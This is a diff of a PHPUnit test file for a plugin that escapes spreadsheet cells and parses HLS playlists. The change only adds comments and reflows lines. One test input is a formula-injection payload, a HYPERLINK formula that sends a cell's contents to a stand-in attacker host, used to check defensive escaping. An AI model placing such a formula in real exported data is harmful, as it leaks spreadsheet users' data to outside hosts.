@@ -30,9 +30,14 @@ use PHPUnit\Framework\TestCase;
  * @covers     \filter_hlsgate\local\playlist_parser
  */
 final class SpreadsheetCellTest extends TestCase {
+    /**
+     * Cells that start like a formula get an apostrophe.
+     */
     public function test_formula_starts_get_an_apostrophe(): void {
-        $this->assertSame('\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")',
-            spreadsheet_cell::escape('=HYPERLINK("http://evil.example/?x="&A1,"Kim")'));
+        $this->assertSame(
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")',
+            spreadsheet_cell::escape('=HYPERLINK("http://evil.example/?x="&A1,"Kim")')
+        );
         foreach (['+1', '-1+2', '@SUM(A1)', "\t=1", "\r=1"] as $cell) {
             $this->assertSame("'" . $cell, spreadsheet_cell::escape($cell), json_encode($cell));
         }
@@ -41,8 +46,12 @@ final class SpreadsheetCellTest extends TestCase {
         }
     }
 
+    /**
+     * A video's duration is the sum of the EXTINF of its first variant.
+     */
     public function test_duration_is_the_sum_of_extinf_of_the_first_variant(): void {
-        $master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=800000\n360p/index.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2000000\n720p/index.m3u8\n";
+        $master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=800000\n360p/index.m3u8\n"
+            . "#EXT-X-STREAM-INF:BANDWIDTH=2000000\n720p/index.m3u8\n";
         $base = 'https://media.example.test/lectures/AbCdEfGhIjKlMnOpQrSt12/';
         $this->assertSame($base . '360p/index.m3u8', playlist_parser::first_variant($master, $base . 'master.m3u8'));
         $absolute = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=800000\n{$base}360p/index.m3u8\n";
